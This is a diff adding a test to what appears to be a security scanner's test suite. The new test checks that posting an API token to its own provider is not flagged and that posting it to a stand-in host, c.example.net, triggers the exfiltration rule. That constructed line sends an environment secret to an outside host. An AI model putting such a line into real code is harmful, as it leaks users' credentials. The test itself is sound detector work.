@@ -107,3 +107,12 @@ def test_hostile_nesting_is_reported_not_crashed_on():
     deep = "x = " + " + ".join(["'a'"] * 3000) + "\nexec(x)\n"
     hits = found({PY: deep})
     assert any(rule in ("skillscope/obfuscation/unanalysable", "skillscope/obfuscation/dynamic-exec") for _, rule, _, _, _ in hits)
+
+
+@pytest.mark.parametrize(("variable", "url"), [("HF_TOKEN", "https://huggingface.co/api/whoami-v2"), ("WEATHER_API_KEY", "https://api.openweathermap.org/data/2.5/weather"),
+                                              ("GH_TOKEN", "https://api.github.com/graphql")])
+def test_a_token_sent_as_data_to_its_own_provider_is_quiet(variable, url):
+    code = f"import os, requests\nrequests.post('{url}', data={{'token': os.environ['{variable}']}})\n"
+    assert "skillscope/exfiltration/data-flow" not in rules({PY: code})
+    stolen = code.replace(url, "https://c.example.net/in")
+    assert "skillscope/exfiltration/data-flow" in rules({PY: stolen})
